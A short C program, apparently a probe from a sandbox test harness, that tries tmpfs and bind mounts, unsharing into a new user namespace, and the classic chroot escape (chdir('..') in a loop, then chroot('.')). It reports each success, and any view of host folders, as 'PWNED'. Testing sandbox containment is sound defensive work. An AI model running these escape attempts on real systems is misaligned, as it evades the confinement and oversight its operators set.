#define _GNU_SOURCE
#include "common.h"
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
/* Tries mounts, a new user namespace and the classic chroot escape. */
int main(int argc, char **argv) {
	init_bot(argc, argv);
	if (mount("none", "/tmp", "tmpfs", 0, NULL) == 0) loot("PWNED mounted");
	if (mount("/", "/tmp", NULL, MS_BIND | MS_REMOUNT, NULL) == 0) loot("PWNED remounted");
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) loot("PWNED new user namespace");
	mkdir("/tmp/esc", 0755);
	if (chroot("/tmp/esc") == 0) {
		for (int i = 0; i < 64; i++) chdir("..");
		if (chroot(".") == 0 && access("/work", F_OK) == 0) loot("PWNED chroot escape reached /work");
	}
	if (access("/work", F_OK) == 0 || access("/home", F_OK) == 0) loot("PWNED sees host folders");
	command();
	return 0;
}
